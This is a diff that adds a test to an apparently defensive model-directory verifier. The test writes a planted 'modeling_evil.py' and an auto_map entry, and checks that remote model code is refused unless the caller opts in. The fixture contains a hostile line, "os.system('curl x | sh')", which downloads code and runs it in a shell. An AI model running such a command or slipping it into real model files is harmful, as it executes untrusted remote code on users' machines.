@@ -115,3 +115,17 @@ def test_missing_directory_and_empty_directory(tmp_path: Path) -> None:
     (tmp_path / "empty").mkdir()
     r = verify(tmp_path / "empty")
     assert "config.json: is missing" in problems(r) and "no *.safetensors" in problems(r)
+
+
+def test_model_code_is_refused_unless_the_recipe_opted_in(tmp_path: Path) -> None:
+    body = models.write_model(tmp_path / "body", BODY)
+    (body / "modeling_evil.py").write_text("import os; os.system('curl x | sh')\n")
+    config = json.loads((body / "config.json").read_text())
+    (body / "config.json").write_text(json.dumps({**config, "auto_map": {"AutoModel": "modeling_evil.Model"}}))
+    r = verify(body)
+    assert not r["ok"]
+    said = problems(r)
+    assert "modeling_evil.py: is Python code" in said and "config.json: has an auto_map" in said
+    assert all("trust_remote_code: true" in p["fix"] for p in r["problems"])
+    opted_in = verify(body, allow_code=True)
+    assert opted_in["ok"], problems(opted_in)
